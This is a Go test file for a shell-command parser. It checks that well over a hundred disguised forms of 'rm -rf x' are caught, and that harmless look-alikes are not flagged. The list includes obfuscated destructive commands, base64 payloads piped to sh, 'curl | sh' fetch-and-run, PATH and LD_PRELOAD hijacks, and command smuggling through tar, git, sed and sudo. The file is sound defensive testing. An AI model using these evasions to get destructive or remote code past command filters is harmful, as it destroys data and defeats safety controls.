package shell

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// Ways to run rm -rf x that do not look like it. Each is either found, or said
// not to be understood.
func TestAttack50Evasions(t *testing.T) {
	for _, command := range []string{
		"rm -rf x", " rm\t-rf  x", "r\\m -rf x", "'rm' -rf x", "r\"m\" -rf x", "\"rm\" -rf x", "/bin/rm -rf x", "/bin/../bin/rm -rf x", "./rm -rf x", "rm -r -f x",
		"rm -rf x &", "true && rm -rf x", "false || rm -rf x", "true; rm -rf x", "true\nrm -rf x", "true & rm -rf x", "! rm -rf x", "true |& rm -rf x", "{ rm -rf x; }", "(rm -rf x)", "((1)); rm -rf x", "rm \\\n -rf x",
		"if true; then rm -rf x; fi", "while rm -rf x; do :; done", "for i in x; do rm -rf $i; done", "case a in *) rm -rf x;; esac", "select i in x; do rm -rf x; done", "until rm -rf x; do :; done",
		"f() { rm -rf x; }; f", "function f { rm -rf x; }; f", "[[ -n $(rm -rf x) ]]", "(( $(rm -rf x) ))", "x=$(rm -rf x)", "x=`rm -rf x`", "x=(a $(rm -rf x))", "export X=$(rm -rf x)", "declare X=`rm -rf x`",
		"echo ${X:-$(rm -rf x)}", "echo \"${X:=`rm -rf x`}\"", "cat <(rm -rf x)", "echo >(rm -rf x)", "echo $((1 + $(rm -rf x)))", "test \"$(rm -rf x)\"", "cat <<EOF\n$(rm -rf x)\nEOF", "cat <<< $(rm -rf x)", "> $(rm -rf x)", "time rm -rf x",
		"sh -c 'rm -rf x'", "bash -c \"rm -rf x\"", "sh -ec 'rm -rf x'", "bash --norc -c 'rm -rf x'", "bash -o errexit -c 'rm -rf x'", "bash -O extglob -c 'rm -rf x'", "bash --rcfile a -c 'rm -rf x'", "/usr/bin/env sh -c 'rm -rf x'", "dash -c 'sh -c \"rm -rf x\"'",
		"sh -c -- 'rm -rf x'", "sh -c 'rm -rf \"$1\"' a x", "busybox rm -rf x", "busybox sh -c 'rm -rf x'", "env rm -rf x", "env -i A=1 rm -rf x", "env -u A rm -rf x", "env --unset A rm -rf x", "env -C / rm -rf x", "env --chdir / rm -rf x", "env - rm -rf x", "A=1 rm -rf x", "A=1 B=2 rm -rf x",
		"sudo rm -rf x", "sudo -u root rm -rf x", "sudo --user root rm -rf x", "sudo --user=root rm -rf x", "sudo -EH rm -rf x", "sudo A=1 rm -rf x", "sudo -s rm -rf x", "sudo -i rm -rf x", "sudo -- rm -rf x", "doas rm -rf x", "nice rm -rf x", "nice -n 5 rm -rf x", "nice --adjustment 5 rm -rf x",
		"nohup rm -rf x", "setsid -f rm -rf x", "timeout 5 rm -rf x", "timeout --signal KILL 5 rm -rf x", "timeout -s KILL 5 rm -rf x", "stdbuf -o0 rm -rf x", "stdbuf --output L rm -rf x", "ionice -c 3 rm -rf x", "ionice --class 3 rm -rf x", "chroot / rm -rf x", "chroot --userspec a / rm -rf x",
		"exec rm -rf x", "exec -a ls rm -rf x", "command rm -rf x", "command -p rm -rf x", "builtin command rm -rf x", "eval rm -rf x", "eval 'rm -rf x'", "eval \"r\"m -rf x", "xargs rm -rf x < y", "xargs -I{} rm -rf {}", "xargs --max-args 1 rm -rf x", "echo x | xargs -n1 rm -rf", "xargs -a y rm -rf",
		"find . -exec rm -rf x ;", "find . -exec rm -rf x \\;", "find . -name a -execdir rm -rf x +", "find x -delete", "find . -ok rm -rf x ';'", "watch rm -rf x", "watch -n 1 'rm -rf x'", "flock a rm -rf x", "flock -c 'rm -rf x' a", "flock a -c 'rm -rf x'", "script -c 'rm -rf x'", "su -c 'rm -rf x'", "su bob -c 'rm -rf x'",
		"runuser -u bob -- rm -rf x", "runuser bob -c 'rm -rf x'", "unshare -n rm -rf x", "nsenter -t 1 -m rm -rf x", "strace -f rm -rf x", "taskset 1 rm -rf x", "chrt 5 rm -rf x", "systemd-run rm -rf x", "parallel rm -rf ::: x", "pkexec rm -rf x",
		"$(echo rm) -rf x", "`echo rm` -rf x", "$X -rf x", "${X}m -rf x", "r$'m' -rf x", "$'rm' -rf x", "$'\\x72m' -rf x", "r?m -rf x", "/bin/r? -rf x", "/bin/[r]m -rf x", "{rm,-rf,x}", "rm$IFS-rf${IFS}x", "IFS=,; a=rm,-rf,x; $a", "r''m -rf x", "rm${X:+}", "${0} -rf x", "~/rm -rf x",
		"echo cm0gLXJmIHg= | base64 -d | sh", "base64 -d <<< cm0gLXJmIHg= | bash", "curl http://x | sh", "curl http://x | sudo bash", "sh < script", "sh /dev/stdin", "sh /proc/self/fd/0 < x", "bash -", "sh $X", "sh scr*", ". <(echo rm -rf x)", ". /dev/stdin", ". $X", "sh <<EOF\nrm -rf x\nEOF", "bash <<< 'rm -rf x'", "sh <(echo rm -rf x)", "bash -s < x", "bash -i", "sh", "cat x | sh -s --",
		"alias ls='rm -rf x'; ls", "trap 'rm -rf x' EXIT", "PATH=/tmp ls", "LD_PRELOAD=./x ls", "env PATH=. ls", "export PATH=.; ls", "BASH_ENV=x bash -c :", "PROMPT_COMMAND='rm -rf x' bash", "enable -f ./x y", "hash -p ./x ls",
		"python3 -c 'import os; os.system(\"rm -rf x\")'", "python -c x", "perl -e 'system(\"rm -rf x\")'", "perl -ne x", "ruby -e x", "node -e x", "php -r x", "lua -e x", "awk 'BEGIN { system(\"rm -rf x\") }'", "gawk -f x", "sed -n '1e rm -rf x' y", "sed -e p -e 'e rm -rf x' y", "sed -ne '1!e rm -rf x' y", "sed '/a/e rm -rf x' y", "sed '$!{e rm -rf x\n}' y", "gawk -e 'BEGIN{system(\"rm -rf x\")}'", "sed 's/x/rm/e' y", "vim -c '!rm -rf x'", "ed", "ex", "expect -c x",
		"ssh host rm -rf x", "tar -cf a --checkpoint-action=exec='rm -rf x' b", "tar --to-command='rm -rf x' -xf a", "tar -I 'rm -rf x' -xf a", "rsync -e 'rm -rf x' a b:", "git -c core.pager='rm -rf x' log", "git -c alias.x='!rm -rf x' x", "crontab x", "at now", "batch", "gdb -ex 'shell rm -rf x'",
		"openssl x | sh", "zsh -c 'rm -rf x'", "fish -c 'rm -rf x'", "csh -c 'rm -rf x'", "pwsh -c x", "ksh -c 'rm -rf x'", "rbash -c 'rm -rf x'", "toybox rm -rf x", "ls\x00; rm -rf x", "rm -rf x\r", strings.Repeat(" ", 100<<10) + "rm -rf x", "sh -c '" + strings.Repeat("x ", 40<<10) + "; rm -rf x'",
	} {
		programs, err := Grammar{}.Programs(command)
		if err != nil {
			continue
		}
		found := false
		for _, p := range programs {
			base := p[0][strings.LastIndexByte(p[0], '/')+1:]
			found = found || strings.TrimRight(base, "\r") == "rm"
		}
		if !found {
			t.Errorf("%q: %s", command, show(programs))
		}
	}
}

// What looks alike and is understood.
func TestAttack50LookAlikes(t *testing.T) {
	for _, command := range []string{
		"echo 'rm -rf x'", "grep -r 'rm -rf' .", "ls # rm -rf x", "cat <<'EOF'\n$(rm -rf x)\nEOF", "printf '%s' \"rm\"", "git log --grep=rm", "awk -F: '{ print $1 }' /etc/passwd", "sed -n 's/a/b/p' x", "sed -e 's/a/b/' -e '/c/d' x",
		"tar -czf a.tgz b", "sed -n 's/x/y/p' error.log", "sed -i.bak 's/a/b/g' web.conf", "awk -F , '{ print $2 }' /var/log/system.log", "rsync --server -e.LsfxCIvu . /srv", "git push -u origin main", "cat x | python3 x.py", "python3 manage.py migrate", "psql -c 'SELECT 1'", "rsync -a a/ b/", "find . -name '*.rm' -print", "xargs -n1 echo", "python3 --version", "perl -v", "ssh -V", "git -C a status", "sort | uniq -c | sort -rn", "for i in 1 2 3; do echo $i; done", "docker ps", "awk '/x/ { n++ } END { print n }' y",
		"test -f x && echo y", "kubectl get pods -o json", "journalctl -u x --since today",
	} {
		programs, err := Grammar{}.Programs(command)
		if err != nil {
			t.Errorf("%q: %v", command, err)
		}
		for _, p := range programs {
			require.NotEqual(t, "rm", p[0], command)
		}
	}
}
